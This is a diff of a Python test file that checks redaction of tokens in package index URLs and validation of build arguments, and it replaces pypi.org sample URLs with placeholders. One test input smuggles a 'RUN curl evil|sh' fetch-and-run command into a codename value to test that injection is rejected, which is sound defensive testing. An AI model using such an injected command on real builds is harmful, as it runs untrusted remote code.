@@ -50,7 +50,7 @@ def test_a_token_in_an_index_path_is_a_warning() -> None:
     )
     (note,) = plan.notes
     assert "looks like a token (glpa...)" in note and TOKEN not in note
-    assert token_like_path("https://pypi.org/simple/") is None
+    assert token_like_path("https://pkgs.example/simple/") is None
     assert token_like_path("https://pkgs.example/simple/my-team-packages/") is None
 
 
@@ -58,7 +58,7 @@ def test_bad_build_arg_values_are_shown_redacted() -> None:
     message = error_of("FROM img\nPYENV 3.13 a\n", PYENV_PYTHON_MIRROR=f"ftp://u:{TOKEN}@m/")
     assert "is not an http(s) or file URL" in message and TOKEN not in message
     assert redacted(f"https://u:{TOKEN}@h/x?k={TOKEN}&a=1") == "https://***@h/x?k=***&a=***"
-    assert url_credentials("https://pypi.org/simple/?format=json") is None
+    assert url_credentials("https://pkgs.example/simple/?format=json") is None
 
 
 @pytest.mark.parametrize("codename", ["bookworm\nRUN curl evil|sh", "BOOKWORM", "x" * 40, "a b"])
